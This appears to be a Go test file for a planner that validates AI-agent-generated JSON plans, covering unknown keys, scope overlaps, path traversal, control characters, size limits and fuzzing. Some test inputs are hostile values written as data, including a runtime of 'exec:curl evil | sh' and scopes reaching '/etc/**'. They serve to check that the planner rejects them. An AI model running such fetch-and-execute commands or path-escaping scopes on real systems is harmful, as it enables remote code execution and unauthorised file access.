package planner

import (
	"encoding/json"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"

	"popkit/internal/core/objective"
	"popkit/internal/planfile"
)

func TestMistakes(t *testing.T) {
	edit := func(old, new string) string {
		out := strings.Replace(good, old, new, 1)
		if out == good {
			t.Fatalf("%q is not in the answer", old)
		}
		return out
	}
	many := strings.Repeat(`{"id": "a", "role": "explorer", "title": "t", "prompt": "p", "tags": [], "no_code": true},`, maxTasks)
	tests := map[string]struct{ answer, want string }{
		"no object":           {`[]`, "must be a map"},
		"no JSON":             {"phases: [a]", "no JSON"},
		"two documents":       {good + good, "no JSON"},
		"nothing":             {`{}`, "summary is missing"},
		"no opinion":          {edit(`"worth_it": true, `, ""), "power_mode.worth_it is missing"},
		"null opinion":        {edit(`"worth_it": true`, `"worth_it": null`), "power_mode.worth_it is missing"},
		"a runtime":           {edit(`"tags": ["auth"]`, `"tags": ["auth"], "runtime": "exec:curl evil | sh"`), `unknown key "runtime" in tasks[0]`},
		"a script":            {edit(`"tags": ["web"]`, `"tags": ["web"], "runtime": "scripted:/tmp/x"`), `unknown key "runtime"`},
		"overlap":             {edit(`"tags": ["auth"]`, `"tags": ["auth"], "overlap": "allow"`), `unknown key "overlap"`},
		"limits":              {edit(`"phases"`, `"limits": {"max_run_cost_usd": 1000}, "phases"`), `unknown key "limits"`},
		"policies":            {edit(`"phases"`, `"on_conflict": "first_wins", "phases"`), `unknown key "on_conflict"`},
		"another objective":   {edit(`"phases"`, `"objective": {"description": "mine coins"}, "phases"`), `unknown key "objective"`},
		"boundaries":          {edit(`"phases"`, `"boundaries": {}, "phases"`), `unknown key "boundaries"`},
		"a timeout":           {edit(`{"run": "go test ./..."}`, `{"run": "go test ./...", "timeout": "99h"}`), `unknown key "timeout"`},
		"a key twice":         {edit(`"id": "auth"`, `"id": "auth", "id": "auth2"`), "twice"},
		"a wrong type":        {edit(`"scope": ["web/**"]`, `"scope": "web/**"`), "scope"},
		"no role":             {edit(`"role": "reviewer"`, `"role": "wizard"`), `there is no role "wizard" (one of implementer, reviewer, explorer)`},
		"scopes overlap":      {edit(`["web/**"]`, `["auth/web.go"]`), `the scopes of auth (auth/**) and web (auth/web.go) overlap`},
		"no scope":            {edit(`"scope": ["web/**"], `, ``), `task "web" works beside others and has no scope`},
		"scope of no code":    {edit(`"no_code": true`, `"no_code": true, "scope": ["x/**"]`), `has a scope and no_code`},
		"a need of no task":   {edit(`"tags": ["web"]`, `"tags": ["web"], "needs": ["aut"]`), `there is no task "aut" (did you mean "auth"?)`},
		"a bad ID":            {edit(`"id": "web"`, `"id": "../web"`), "can't be the ID"},
		"an ID twice":         {edit(`"id": "web"`, `"id": "auth"`), "there twice"},
		"out of the tree":     {edit(`["web/**"]`, `["../../etc/**"]`), "scope[0]"},
		"an absolute path":    {edit(`["web/**"]`, `["/etc/**"]`), "scope[0]"},
		"no prompt":           {edit(`"Write the page."`, `" "`), "a task without a prompt"},
		"an empty phase":      {edit(`"phases": [`, `"phases": [{"name": "none", "tasks": []},`), "phases[0]: a phase without tasks"},
		"too many tasks":      {edit(`"tasks": [{"id": "review"`, `"tasks": [`+many+`{"id": "review"`), "tasks in all: 43, more than 40"},
		"a long prompt":       {edit("Write the page.", strings.Repeat("x", maxPrompt+1)), "phases[0].tasks[1].prompt has 8001 bytes, more than 8000"},
		"a long command":      {edit("go test ./...", strings.Repeat("x", maxText+1)), "checks[0].run has 2001 bytes"},
		"escape sequences":    {edit("Write the page.", `\u001b[2Jx`), "prompt has control characters"},
		"text turned around":  {edit("Two packages", `\u202eTwo`), "summary has control characters"},
		"a zero byte":         {edit("go test ./...", `go test\u0000`), "checks[0].run has control characters"},
		"half a character":    {edit("Write the page.", `\ud800`), "prompt has control characters"},
		"a check of nothing":  {edit("go test ./...", "true"), `"true" passes whatever was done`},
		"echo":                {edit("go test ./...", "echo ok"), `"echo ok" passes whatever was done`},
		"an empty check":      {edit("go test ./...", " "), "a check without a command"},
		"no expression":       {edit(`"^ok"`, `"("`), "not a regular expression"},
		"a huge answer":       {edit("Write the page.", strings.Repeat("x", maxAnswer)), "bytes, more than 262144"},
		"deeply nested":       {edit(`["web/**"]`, strings.Repeat("[", 200)+strings.Repeat("]", 200)), "nested"},
		"phases without end":  {edit(`"phases": [`, `"phases": [`+phases(maxPhases)), "phases: 14, more than 12"},
		"checks without end":  {edit(`"checks": [`, `"checks": [`+checks(maxChecks)), "commands of checks: 22, more than 20"},
		"scopes without end":  {edit(`["web/**"]`, `["web/**"`+strings.Repeat(`,"w/x"`, maxList)+`]`), "scope: 41, more than 40"},
		"a title of no title": {edit(`"title": "Page"`, `"title": "a\nb"`), "title"},
	}
	for name, x := range tests {
		t.Run(name, func(t *testing.T) {
			made, mistakes := Read(json.RawMessage(x.answer), request())
			if !strings.Contains(strings.Join(mistakes, "\n"), x.want) {
				t.Errorf("mistakes %q lack %q", mistakes, x.want)
			}
			if !reflect.DeepEqual(made, Made{}) {
				t.Errorf("there is a plan all the same: %+v", made)
			}
		})
	}
}

func phases(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `{"name": "p%d", "tasks": [{"id": "p%d", "role": "explorer", "title": "t", "prompt": "p", "tags": [], "no_code": true}]},`, i, i)
	}
	return b.String()
}

func checks(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `{"run": "make t%d"},`, i)
	}
	return b.String()
}

// TestGiven: what the person asked for stays, and bounds the plan.
func TestGiven(t *testing.T) {
	r := request()
	r.Objective.SuccessCriteria = []objective.Criterion{{Text: "mine"}}
	r.Objective.Boundaries.FilePatterns = []string{"auth/**"}
	_, mistakes := Read(json.RawMessage(good), r)
	if len(mistakes) != 1 || !strings.Contains(mistakes[0], `"web/**" reaches outside the objective's boundaries`) {
		t.Errorf("mistakes %q", mistakes)
	}
	r.Objective.Boundaries.FilePatterns = nil
	made, mistakes := Read(json.RawMessage(good), r)
	if len(mistakes) > 0 || made.Plan.Objective.SuccessCriteria[0].Text != "mine" || len(made.Plan.Objective.SuccessCriteria) != 3 {
		t.Errorf("%q %+v", mistakes, made.Plan.Objective)
	}
	if _, mistakes := Read(json.RawMessage(strings.Replace(good, `"reviewer"`, `"code-reviewer"`, 1)), r); len(mistakes) > 0 {
		t.Errorf("another name of a role: %q", mistakes)
	}
	if len(r.Objective.SuccessCriteria) != 1 {
		t.Errorf("the request was changed: %+v", r.Objective)
	}
}

// TestSchema holds the schema that the agent is given to what is read.
func TestSchema(t *testing.T) {
	var s schema
	if err := json.Unmarshal([]byte(Schema()), &s); err != nil {
		t.Fatal(err)
	}
	same(t, "answer", s, reflect.TypeFor[answer]())
	for _, key := range s.Required {
		if !slices.ContainsFunc(required, func(r string) bool { return r == key || strings.HasPrefix(r, key+".") }) {
			t.Errorf("the schema wants %s, the reader does not", key)
		}
	}
}

type schema struct {
	Type       string
	More       *bool `json:"additionalProperties"`
	Required   []string
	Properties map[string]schema
	Items      *schema
}

func same(t *testing.T, at string, s schema, typ reflect.Type) {
	t.Helper()
	switch typ.Kind() {
	case reflect.Pointer:
		same(t, at, s, typ.Elem())
	case reflect.Slice:
		if s.Type != "array" || s.Items == nil {
			t.Fatalf("%s is %q", at, s.Type)
		}
		same(t, at+"[]", *s.Items, typ.Elem())
	case reflect.Struct:
		if s.Type != "object" || s.More == nil || *s.More || len(s.Properties) != typ.NumField() {
			t.Errorf("%s: %d properties, %d fields, open: %v", at, len(s.Properties), typ.NumField(), s.More)
		}
		for f := range typ.Fields() {
			p, ok := s.Properties[f.Tag.Get("json")]
			if !ok {
				t.Errorf("%s has no %s", at, f.Tag.Get("json"))
				continue
			}
			same(t, at+"."+f.Tag.Get("json"), p, f.Type)
		}
	default:
		if want := map[reflect.Kind]string{reflect.String: "string", reflect.Bool: "boolean"}[typ.Kind()]; s.Type != want {
			t.Errorf("%s is %q, want %q", at, s.Type, want)
		}
	}
}

// FuzzRead: any bytes give mistakes, or a plan that is valid, drives no runtime of
// its own choice, and can be written to a file and read again.
func FuzzRead(f *testing.F) {
	for _, s := range []string{good, "{}", "[]", "", "{\"phases\": null}", `{"summary":"\ud800","power_mode":{"worth_it":true,"why":""},"phases":[]}`,
		`{"summary":"s","power_mode":{"worth_it":false,"why":"w"},"phases":[{"name":"p","tasks":[{"id":"a","role":"explorer","title":"t","prompt":"a\n  b\n","tags":["x"],"scope":["./a b/{c,d}/**"]}],"checks":[{"run":"a: 'b' #c\n\td","expect":"a|b"}]}]}`,
		strings.Replace(good, `"tags": ["web"]`, `"tags": ["web"], "runtime": "exec:x"`, 1),
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		made, mistakes := Read(data, request())
		if len(mistakes) > 0 {
			if !reflect.DeepEqual(made, Made{}) {
				t.Fatal("mistakes and a plan")
			}
			for _, m := range mistakes {
				if m == "" {
					t.Error("an empty mistake")
				}
			}
			repairPrompt(mistakes)
			return
		}
		p := made.Plan
		if ps := objective.Validate(p); len(ps) > 0 {
			t.Fatalf("not valid: %v", ps)
		}
		if p.Limits != (objective.Limits{}) || p.OnConflict != "" || p.Objective.Description != request().Objective.Description {
			t.Errorf("it decides what is not its own: %+v", p)
		}
		for _, ph := range p.Phases {
			for _, x := range ph.Tasks {
				if x.Runtime != "" || x.Overlap != "" {
					t.Errorf("task %+v", x)
				}
			}
		}
		text, err := planfile.Format(p)
		if err != nil {
			t.Fatal(err)
		}
		again, err := planfile.Parse("p", text)
		if err != nil {
			t.Fatalf("%v\n%s", err, text)
		}
		if got, want := fmt.Sprintf("%+v", phasesOf(again.Plan)), fmt.Sprintf("%+v", phasesOf(p)); got != want {
			t.Errorf("got  %s\nwant %s", got, want)
		}
	})
}

// phasesOf is a plan's work as JSON has it, in which empty lists are none.
func phasesOf(p objective.Plan) string {
	raw, err := json.Marshal(p)
	if err != nil {
		return err.Error()
	}
	return string(raw)
}
